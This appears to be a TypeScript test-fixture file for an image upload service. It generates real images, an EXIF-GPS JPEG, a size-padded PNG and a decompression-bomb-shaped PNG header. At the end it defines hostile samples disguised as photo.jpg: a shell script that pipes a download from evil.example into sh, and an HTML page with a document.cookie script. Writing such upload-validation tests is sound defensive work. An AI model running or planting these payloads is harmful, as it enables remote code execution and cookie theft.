/**
 * Real images made with sharp for upload tests, and files that only
 * pretend to be images.
 */
import { crc32, deflateSync } from 'node:zlib';
import pLimit from 'p-limit';
import sharp from 'sharp';
import { IMAGES_AT_ONCE, type MediaDeps } from '../../src/services/media.js';

/** The media limits of a server at its defaults, for services called directly. */
export const MEDIA_LIMITS: Pick<MediaDeps, 'uploadMaxBytes' | 'uploadMaxPixels' | 'imageSlots'> = {
  uploadMaxBytes: 10 * 1024 * 1024,
  uploadMaxPixels: 50_000_000,
  imageSlots: pLimit(IMAGES_AT_ONCE),
};

type Format = 'jpeg' | 'png' | 'webp' | 'avif';

/** A `width`×`height` image in `format`, half transparent when `alpha`. */
export function makeImage(
  format: Format,
  width: number,
  height: number,
  options: { alpha?: boolean } = {},
): Promise<Buffer> {
  const background = options.alpha
    ? { r: 20, g: 90, b: 160, alpha: 0.5 }
    : { r: 160, g: 30, b: 40, alpha: 1 };
  return sharp({ create: { width, height, channels: options.alpha ? 4 : 3, background } })
    .toFormat(format)
    .toBuffer();
}

/**
 * A 100×60 JPEG stored on its side (EXIF orientation 6: upright it is
 * 60×100) with the camera's GPS position (Aleppo) and a copyright line.
 */
export function jpegWithGps(): Promise<Buffer> {
  return sharp({ create: { width: 100, height: 60, channels: 3, background: '#3a6' } })
    .jpeg()
    .withExif({
      IFD0: { Copyright: 'Photographer Name', Make: 'PhoneMaker' },
      IFD3: {
        GPSLatitudeRef: 'N',
        GPSLatitude: '36/1 12/1 0/1',
        GPSLongitudeRef: 'E',
        GPSLongitude: '37/1 9/1 0/1',
      },
    })
    .withMetadata({ orientation: 6 })
    .toBuffer();
}

/** True when an EXIF block points to a GPS IFD (tag 0x8825, either byte order). */
export function exifHasGps(exif: Buffer): boolean {
  return (
    exif.includes(Buffer.from([0x25, 0x88, 0x04, 0x00])) ||
    exif.includes(Buffer.from([0x88, 0x25, 0x00, 0x04]))
  );
}

/** A PNG chunk: length, type, data, CRC-32 of type and data (PNG spec §5.3). */
function pngChunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/**
 * A valid solid-colour PNG of `width`×`height` pixels that is exactly
 * `bytes` long: a private ancillary chunk (`miDd`, which decoders skip)
 * before IEND fills it out. Cheap to make however many pixels it has: a
 * solid colour compresses to a few KB.
 */
export async function pngOfSize(width: number, height: number, bytes: number): Promise<Buffer> {
  const png = await makeImage('png', width, height);
  const iend = png.subarray(png.length - 12);
  const filler = bytes - png.length - 12;
  if (filler < 0) throw new Error(`a ${width}×${height} PNG is already ${png.length} bytes`);
  return Buffer.concat([
    png.subarray(0, png.length - 12),
    pngChunk('miDd', Buffer.alloc(filler)),
    iend,
  ]);
}

/**
 * A JPEG of `width`×`height` pixels of noise at quality 100 without chroma
 * subsampling, about 2.9 bytes a pixel (2800×1850 is some 15 MB), the same
 * bytes on every call.
 */
export function noisyJpeg(width: number, height: number): Promise<Buffer> {
  const raw = Buffer.alloc(width * height * 3);
  let seed = 1;
  for (let i = 0; i < raw.length; i++) {
    seed = (Math.imul(seed, 1103515245) + 12345) >>> 0;
    raw[i] = seed >>> 24;
  }
  return sharp(raw, { raw: { width, height, channels: 3 } })
    .jpeg({ quality: 100, chromaSubsampling: '4:4:4' })
    .toBuffer();
}

/**
 * A PNG claiming `width`×`height` pixels with a few bytes of pixel data:
 * the shape of a decompression bomb.
 */
export function pngHeaderOnly(width: number, height: number): Buffer {
  const chunk = pngChunk;
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', ihdr),
    chunk('IDAT', deflateSync(Buffer.alloc(64))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A shell script, as an attacker would name it `photo.jpg`. */
export const SHELL_SCRIPT = Buffer.from('#!/bin/sh\ncurl -s https://evil.example/x | sh\n');
/** An HTML page with a script, as an attacker would name it `photo.jpg`. */
export const HTML_PAGE = Buffer.from(
  '<!DOCTYPE html>\n<html><body><script>alert(document.cookie)</script></body></html>\n',
);
